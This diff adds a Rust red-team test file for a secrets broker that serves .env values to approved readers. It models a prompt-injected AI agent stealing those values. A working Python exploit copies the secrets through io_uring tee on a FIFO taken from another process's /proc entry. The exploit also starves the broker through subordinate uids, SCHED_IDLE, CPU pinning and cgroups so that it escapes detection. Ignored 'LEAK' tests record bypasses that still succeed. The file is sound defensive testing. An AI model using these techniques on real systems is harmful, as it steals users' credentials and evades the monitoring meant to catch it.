@@ -1,0 +1,392 @@
+//! Red team s10 (`.env` mounts, after the io_uring look): a prompt-injected agent with the
+//! human's uid, a shell and `/proc`, trying to copy more than one piece of a mount's values
+//! unreported now that a process with io_uring worker threads stops a read. A held attack is
+//! a passing test; one that still works is kept `#[ignore = "LEAK: ..."]` (it fails today).
+#![allow(clippy::print_stderr)] // the figures of each attempt (counts only, never a value)
+
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+use crate::harness::{Home, text, wait_output};
+use crate::mount::{Project, approve_card, finished, mount, store, values, wait_card};
+use crate::redteam_s9c::{HONEST, caught, longest_run, wait_ready};
+
+/// The agent's side: a copier through `IORING_OP_TEE` on the mount's FIFO held only in an
+/// io_uring ring (opened as `/proc/READER/fd/N` while the card waits, registered, closed),
+/// as in `redteam_s9c.rs`, in one of two modes:
+///
+/// - `subuid UID`: once it holds the descriptor it becomes `UID` (a subordinate uid: what
+///   `newuidmap` and `/etc/subuid` give every desktop user for rootless containers; here
+///   the test runs as root and calls `setresuid`), then makes its ring and keeps 16 tees
+///   waiting beside the reader's `read`, with two busy loops per CPU at normal priority.
+/// - `idle`: at the first piece (the FIFO's `IN_MODIFY`, its own inotify watch added through
+///   `/proc/READER/fd/N`, which opens nothing) it pins the broker's threads (`run/broker.pid`)
+///   and the reader's to CPU 0 (the broker's own affinity changes with them, so the reader
+///   runs on no fewer CPUs than the broker), puts the broker's threads under `SCHED_IDLE`
+///   (a same-uid process may do both to another), and keeps CPU 0 busy with two busy loops at
+///   normal priority; it runs alone on CPU 1. Then on each `IN_MODIFY` a new thread submits
+///   one non-blocking tee (`SPLICE_F_NONBLOCK`: `EAGAIN` at once on an empty pipe) and exits,
+///   which ends its io-wq worker: a worker that lives between two of the starved broker's
+///   looks.
+///
+/// Touches `argv[3]` once in position. Prints what it copied on stdout (the test only
+/// searches it, never shows it), `copies N` (distinct pieces) on stderr.
+const THIEF: &str = r#"
+import os, sys, time, ctypes, mmap, struct, signal, threading, select
+path, mode, ready, home = sys.argv[1:5]
+words = mode.split()
+st = os.stat(path); dev, ino = st.st_dev, st.st_ino
+me = os.getpid(); pid = fdn = None
+t0 = time.time()
+while pid is None and time.time() - t0 < 20:
+    for p in os.listdir("/proc"):
+        if not p.isdigit() or int(p) == me:
+            continue
+        try:
+            for f in os.listdir(f"/proc/{p}/fd"):
+                try:
+                    s = os.stat(f"/proc/{p}/fd/{f}")
+                    if s.st_dev == dev and s.st_ino == ino:
+                        fl = [l for l in open(f"/proc/{p}/fdinfo/{f}") if l.startswith("flags:")][0]
+                        if int(fl.split()[1], 8) & 3 == 0:
+                            pid, fdn = int(p), f
+                except OSError:
+                    pass
+        except OSError:
+            pass
+    time.sleep(0.01)
+assert pid is not None, "no reader"
+time.sleep(0.3)
+src = f"/proc/{pid}/fd/{fdn}"
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+fd = os.open(src, os.O_RDONLY | os.O_NONBLOCK)
+params = ctypes.create_string_buffer(120)
+ring = libc.syscall(425, 32, params)
+assert ring >= 0, ctypes.get_errno()
+sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
+sq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 40)
+cq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 80)
+sqr = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
+cqr = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
+sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
+arr = (ctypes.c_int * 1)(fd)
+assert libc.syscall(427, ring, 2, arr, 1) == 0, ctypes.get_errno()
+os.close(fd)  # only the ring holds the FIFO now
+SLOTS = 16
+pipes = [os.pipe() for _ in range(SLOTS)]
+IN_FIXED = 1 << 31
+NONBLOCK = 2
+def submit(slot, flags=0):
+    tail = struct.unpack_from("I", sqr, sq_off[1])[0]
+    mask = struct.unpack_from("I", sqr, sq_off[2])[0]
+    i = tail & mask
+    sqe = bytearray(64)
+    # IORING_OP_TEE (33): fd = the agent's own pipe, splice_fd_in = fixed file 0.
+    struct.pack_into("BBHiQQIIQ", sqe, 0, 33, 0, 0, pipes[slot][1], 0, 0, 1 << 16, IN_FIXED | flags, slot)
+    struct.pack_into("i", sqe, 44, 0)
+    sqes[i * 64:(i + 1) * 64] = bytes(sqe)
+    struct.pack_into("I", sqr, sq_off[6] + i * 4, i)
+    struct.pack_into("I", sqr, sq_off[1], tail + 1)
+    libc.syscall(426, ring, 1, 0, 0, None, 0)
+def complete():
+    while struct.unpack_from("I", cqr, cq_off[1])[0] == struct.unpack_from("I", cqr, cq_off[0])[0]:
+        libc.syscall(426, ring, 0, 1, 1, None, 0)
+    head = struct.unpack_from("I", cqr, cq_off[0])[0]
+    cmask = struct.unpack_from("I", cqr, cq_off[2])[0]
+    slot, res, _ = struct.unpack_from("QiI", cqr, cq_off[5] + (head & cmask) * 16)
+    struct.pack_into("I", cqr, cq_off[0], head + 1)
+    return slot, res
+spinners = []
+def spin(cpus, n):
+    for _ in range(n):
+        c = os.fork()
+        if c == 0:
+            ctypes.CDLL(None).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG: gone with the thief
+            if cpus is not None:
+                os.sched_setaffinity(0, cpus)
+            while True:
+                pass
+        spinners.append(c)
+data = b""; copies = 0; last = None
+def keep(slot, res):
+    global data, copies, last
+    got = b""
+    while len(got) < res:
+        got += os.read(pipes[slot][0], res - len(got))
+    if got != last:  # the same piece seen by several tees
+        data += got; copies += 1; last = got
+def alive():
+    return os.path.exists(f"/proc/{pid}")
+if words[0] == "subuid":
+    open(ready, "w").close()
+    # Every tee and worker from now on is the subordinate uid's (the descriptor and the ring
+    # were passed to it: SCM_RIGHTS in real life).
+    uid = int(words[1])
+    os.setgroups([])
+    os.setresgid(uid, uid, uid)
+    os.setresuid(uid, uid, uid)
+    spin(None, 2 * len(os.sched_getaffinity(0)))
+    for s in range(SLOTS):
+        submit(s)
+    t0 = time.time()
+    while time.time() - t0 < 40:
+        slot, res = complete()
+        if res > 0:
+            keep(slot, res)
+        elif res == 0 and data:
+            break  # end of the text: the broker closed its end
+        elif not alive():
+            break
+        elif res == 0:
+            time.sleep(0.001)
+        submit(slot)
+else:
+    ino_fd = libc.inotify_init1(0)
+    assert ino_fd >= 0
+    assert libc.inotify_add_watch(ino_fd, src.encode(), 0x2) >= 0  # IN_MODIFY, no opening
+    broker = int(open(os.path.join(home, "run", "broker.pid")).read().split()[0])
+    open(ready, "w").close()
+    def tids(p):
+        try:
+            return [int(t) for t in os.listdir(f"/proc/{p}/task")]
+        except OSError:
+            return []
+    def one():
+        submit(0, NONBLOCK)
+        slot, res = complete()
+        if res > 0:
+            keep(slot, res)
+    starved = False
+    t0 = time.time()
+    while time.time() - t0 < 40:
+        r, _, _ = select.select([ino_fd], [], [], 0.05)
+        if not r:
+            if not alive():
+                break
+            continue
+        os.read(ino_fd, 4096)
+        if not starved and words[0] == "cgroup":
+            # A CPU cgroup of the agent's with the lowest weight (v1 `cpu.shares`, v2
+            # `cpu.weight` in a delegated subtree): the broker's and the reader's threads
+            # move there; /proc/PID/stat shows no change of priority or CPUs.
+            cg = words[1]
+            os.makedirs(cg, exist_ok=True)
+            open(os.path.join(cg, "cpu.shares"), "w").write("64")
+            for t in tids(broker) + tids(pid):
+                try:
+                    open(os.path.join(cg, "tasks"), "w").write(str(t))
+                except OSError:
+                    pass
+            spin(None, 2 * len(os.sched_getaffinity(0)))
+            starved = True
+            continue
+        if not starved and words[0] == "fair":
+            # Nothing the broker could refuse: busy loops at normal priority on every CPU.
+            spin(None, 2 * len(os.sched_getaffinity(0)))
+            starved = True
+            continue
+        if not starved:
+            # The first piece (a name) is in the pipe: starve the broker, slow the reader.
+            os.sched_setaffinity(0, {1})
+            for t in tids(broker):
+                try:
+                    os.sched_setaffinity(t, {1})
+                    os.sched_setscheduler(t, os.SCHED_IDLE, os.sched_param(0))
+                except OSError:
+                    pass
+            for t in tids(pid):
+                try:
+                    os.sched_setaffinity(t, {0})
+                except OSError:
+                    pass
+            spin({0}, 3)
+            starved = True
+            continue
+        # One tee from a thread that ends at once: its io-wq worker ends with it.
+        th = threading.Thread(target=one); th.start(); th.join()
+for c in spinners:
+    os.kill(c, signal.SIGKILL)
+    os.waitpid(c, 0)
+sys.stderr.write(f"copies {copies}\n")
+sys.stdout.buffer.write(data)
+"#;
+
+/// What a copy attempt came to.
+struct Copy {
+    /// Longest run of consecutive bytes of one value found in what the thief copied.
+    longest: usize,
+    /// How many bytes the thief copied.
+    bytes: usize,
+    /// How many distinct pieces it copied.
+    copies: usize,
+    /// What the honest reader printed (how many bytes it read).
+    honest: String,
+    /// The audit log.
+    audit: String,
+    /// `keyveil mounts`.
+    mounts: String,
+}
+
+/// Runs the thief in `mode` against one honest read, approved once the thief is in position.
+fn copy(mode: &str) -> Copy {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::with_io_uring();
+    mount(&h, &p);
+    let ready = p.tmp.path().join("thief-ready");
+    let thief = Command::new("python3")
+        .args([
+            "-c",
+            THIEF,
+            p.env_file().to_str().unwrap(),
+            mode,
+            ready.to_str().unwrap(),
+            h.path().to_str().unwrap(),
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(Duration::from_millis(300));
+    let reader = p.reader(&["python3", "-c", HONEST], &[]);
+    let card = wait_card(&h);
+    wait_ready(&p, "thief-ready");
+    approve_card(&h, &card, &[]);
+    let honest = finished(reader);
+    let stolen = wait_output(thief, Duration::from_secs(60));
+    assert!(
+        stolen.status.success(),
+        "thief failed: {}",
+        text(&stolen.stderr)
+    );
+    let copies = text(&stolen.stderr)
+        .lines()
+        .find_map(|l| l.strip_prefix("copies "))
+        .and_then(|n| n.trim().parse::<usize>().ok())
+        .unwrap_or(0);
+    let c = Copy {
+        longest: vals
+            .iter()
+            .map(|(_, v)| longest_run(&stolen.stdout, v.as_bytes()))
+            .max()
+            .unwrap_or(0),
+        bytes: stolen.stdout.len(),
+        copies,
+        honest: text(&honest.stdout),
+        audit: h.audit_text(),
+        mounts: h.ok(&["mounts"]),
+    };
+    eprintln!(
+        "{mode}: {} pieces, {} bytes copied, longest run of a value {}, reported {}",
+        c.copies,
+        c.bytes,
+        c.longest,
+        caught(&c.audit) || starved_seen(&c.audit)
+    );
+    c
+}
+
+/// Whether the audit says a read was stopped because the broker's own scheduling was changed.
+fn starved_seen(audit: &str) -> bool {
+    audit.contains("\"mount_read_suspect\"")
+        && audit.contains("where it cannot look for io_uring threads in time")
+}
+
+/// What the look claims: a copier through io_uring copies at most the one piece in the pipe
+/// when it is seen, and what it copied is reported.
+fn assert_held(c: &Copy) {
+    let seen = caught(&c.audit) || starved_seen(&c.audit);
+    assert!(
+        c.bytes == 0 || seen,
+        "the thief copied {} bytes in {} pieces unreported (longest run of one value: {} bytes; the honest reader read {}); mounts: {}",
+        c.bytes,
+        c.copies,
+        c.longest,
+        c.honest,
+        c.mounts
+    );
+    assert!(
+        c.copies <= 1 && c.bytes <= 7 && c.longest <= 4,
+        "the thief copied {} pieces, {} bytes, {} consecutive bytes of a value",
+        c.copies,
+        c.bytes,
+        c.longest
+    );
+}
+
+/// The look counts only processes whose uids hold the broker's or the reader's. The agent
+/// passes the FIFO (held through `/proc/READER/fd/N` while the card waits) to a process of a
+/// subordinate uid it owns (`newuidmap`, `/etc/subuid`: rootless podman on any desktop), whose
+/// tees run on io-wq workers the look skips. Measured (5 runs): 1 to 3 pieces (4 to 12 bytes,
+/// up to 8 consecutive bytes of one value) per read, never reported (`mount_read`); a grant
+/// with a TTL serves the next read as well. Recommended: count every process with io_uring
+/// threads whatever its uid (the broker and the reader aside), or at least the uids of the
+/// human's `/etc/subuid` ranges.
+#[test]
+#[ignore = "LEAK: the io_uring look counts only processes with the broker's or the reader's uid; a subordinate uid the agent owns (newuidmap, /etc/subuid) tees pieces unreported (1 to 3 per read)"]
+fn a_tee_thief_under_a_subordinate_uid_is_reported() {
+    assert_held(&copy("subuid 100000"));
+}
+
+/// The broker looks for workers only when it runs: the agent pins the broker and the reader
+/// to one CPU, puts the broker under `SCHED_IDLE` beside busy loops there (nothing the broker
+/// refuses a read for: it looks at the reader's priority, not its own), and from the other
+/// CPU tees each piece from a worker that ends before the starved broker looks again
+/// (the broker cannot look while the thief's threads keep the CPU it shares with them).
+/// Was a LEAK (3 of 3 runs: 4, 8 and 21 pieces, 16 to 84 bytes, up to 19 consecutive bytes
+/// of one value per read, audited as a plain `mount_read`). Held since: the broker stops a
+/// read while one of its own threads runs under `SCHED_IDLE`/`SCHED_BATCH`, a positive nice
+/// or on fewer CPUs than pid 1 (looked at with each io_uring look), reported as a possible
+/// theft of the piece in the pipe, the grant ended.
+#[test]
+fn a_tee_thief_with_a_starved_broker_is_reported() {
+    let c = copy("idle");
+    assert_held(&c);
+    assert!(starved_seen(&c.audit), "{}", c.audit);
+    assert!(c.audit.contains("may have been read by another process"));
+    assert!(c.mounts.contains("possible theft"), "{}", c.mounts);
+    assert!(
+        c.mounts.contains("changed the broker's scheduling"),
+        "{}",
+        c.mounts
+    );
+}
+
+/// As above without touching the broker's scheduling: busy loops at normal priority on
+/// every CPU, a per-piece worker racing the broker's fair share. Measured (7 runs): 6 copied
+/// nothing (the workers seen in 5); 1 copied 7 pieces, 27 bytes, 25 consecutive bytes of one
+/// value before a worker was seen: reported and the grant ended, but `keyveil mounts` said
+/// up to 4 bytes of one value may be exposed. Recommended: a pid handed out since the last
+/// look whose `/proc` entry is gone (a task that lived and died between two looks) counts as
+/// a doubt, at least in a thread group that counts; or report every value served before the
+/// look that saw a worker as exposed.
+#[test]
+#[ignore = "LEAK: io_uring workers that live and die between two looks of a fairly loaded broker copied 7 pieces (25 consecutive bytes of one value) before one was seen, in 1 of 7 runs; the report understates it as one piece"]
+fn a_tee_thief_with_a_fairly_loaded_broker_is_reported() {
+    assert_held(&copy("fair"));
+}
+
+/// The broker and the reader moved into a CPU cgroup of the lowest weight, which their
+/// `/proc/PID/stat` does not show (the broker looks at policy, nice and CPUs only), the
+/// thief and busy loops at normal weight. Measured (3 runs, `cpu.shares` 64 against 1024):
+/// 1, 1 and 0 pieces copied, the first two reported. At `cpu.shares` 2 nothing finished:
+/// the reader read nothing within 30 s (3 runs), a denial of service, no copy.
+#[test]
+fn a_tee_thief_with_the_broker_in_a_starved_cgroup_is_reported() {
+    let cg = "/sys/fs/cgroup/cpu";
+    if !std::path::Path::new(cg).join("cpu.shares").exists() {
+        eprintln!("skipped: no cgroup v1 cpu controller at {cg}");
+        return;
+    }
+    let dir = format!("{cg}/kv-s10-{}", std::process::id());
+    let c = copy(&format!("cgroup {dir}"));
+    // The cgroup goes once its tasks are gone (the broker stops with its home).
+    let t0 = std::time::Instant::now();
+    while std::fs::remove_dir(&dir).is_err() && t0.elapsed() < Duration::from_secs(10) {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert_held(&c);
+}
